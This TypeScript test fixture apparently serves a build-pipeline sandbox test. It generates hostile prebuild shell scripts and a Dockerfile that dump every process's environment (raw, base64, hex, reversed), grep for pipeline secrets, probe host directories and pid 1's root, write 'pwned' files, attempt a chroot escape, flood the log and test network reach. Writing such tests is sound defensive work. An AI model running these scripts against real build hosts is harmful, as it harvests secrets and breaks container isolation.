/**
 * Hostile repository content for test/hostile/prebuild-sandbox.test.ts: a prebuild script and a
 * Dockerfile that go after the pipeline's secrets, state and host, and report what they reached
 * as `ATTACK name=value` / `RUNATTACK name=value` lines the test reads back from the build log.
 */

/** Paths an attacker would guess or learn, written into the script as literals. */
export interface AttackTargets {
  dataDir: string;
  buildsDir: string;
  hostTmp: string;
  marker: string;
}

const quote = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;

/** Reads every /proc/*\/environ and prints it raw, base64, hex and reversed; lists and writes what it should not. */
export function attackPrebuild(targets: AttackTargets): string {
  const writes = [
    `${targets.dataDir}/pwned`,
    `${targets.buildsDir}/pwned`,
    '/build/pwned',
    '../../pwned',
    '/usr/pwned',
    `${targets.hostTmp}/${targets.marker}-pwned`,
  ];
  return `#!/bin/sh
echo "ATTACK procs=$(ls -d /proc/[0-9]* | wc -l)"
echo "ATTACK ccp-visible=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c 'cli/[m]ain')"
cat /proc/[0-9]*/environ > /tmp/environ.bin 2>/dev/null
echo "ATTACK environ-bytes=$(wc -c < /tmp/environ.bin)"
echo "--- raw"; tr '\\0' '\\n' < /tmp/environ.bin
echo "--- base64"; base64 -w0 < /tmp/environ.bin; echo
echo "--- hex"; od -An -tx1 -v < /tmp/environ.bin | tr -d ' \\n'; echo
echo "--- reversed"; tr '\\0' '\\n' < /tmp/environ.bin | rev
grep -ra CCP_ /proc/*/environ 2>&1 | head -20
if ls -la ${quote(targets.dataDir)} >/dev/null 2>&1; then echo "ATTACK data-dir=visible"; else echo "ATTACK data-dir=absent"; fi
if ls ${quote(`${targets.dataDir}/store`)} >/dev/null 2>&1; then echo "ATTACK store=visible"; else echo "ATTACK store=absent"; fi
if ls ${quote(`/proc/1/root${targets.dataDir}`)} >/dev/null 2>&1; then echo "ATTACK pid1-data-dir=visible"; else echo "ATTACK pid1-data-dir=absent"; fi
for target in ${writes.map(quote).join(' ')}; do
  if (echo pwned > "$target") 2>/dev/null; then echo "ATTACK write:$target=written"; else echo "ATTACK write:$target=refused"; fi
done
mkdir -p out && cp /tmp/environ.bin out/environ.bin && env > out/prebuild-env.txt
echo "ATTACK done=yes"
`;
}

/** RUN steps that try the same from inside buildah: host processes, their environment, pid 1's root, a chroot escape. */
export const ATTACK_DOCKERFILE = `FROM hostile/base:latest
COPY out/ /out/
RUN echo "RUNATTACK procs=$(ls -d /proc/[0-9]* | wc -l)"; \\
    echo "RUNATTACK ccp-visible=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c 'cli/[m]ain')"; \\
    cat /proc/[0-9]*/environ > /out/run-environ.bin 2>/dev/null; \\
    base64 < /out/run-environ.bin; tr '\\0' '\\n' < /out/run-environ.bin; \\
    grep -ra CCP_ /proc/*/environ 2>&1 | head -20; \\
    if ls /proc/1/root/ >/dev/null 2>&1; then echo "RUNATTACK pid1-root=readable"; else echo "RUNATTACK pid1-root=denied"; fi; \\
    mkdir -p /x; \\
    if chroot /x /bin/true 2>&1 | grep -q 'Operation not permitted'; then echo "RUNATTACK chroot=refused"; else echo "RUNATTACK chroot=allowed"; fi; \\
    true
`;

/** Output without end. */
export const FLOOD_PREBUILD = '#!/bin/sh\nyes ccp-flood-line\n';

/** Says whether it reached `url`, in the log and in net.txt. */
export const NETWORK_PREBUILD = (url: string): string =>
  `#!/bin/sh\nif curl -s -o /dev/null --max-time 5 ${quote(url)}; then echo "NET reached" | tee net.txt; else echo "NET blocked" | tee net.txt; fi\n`;
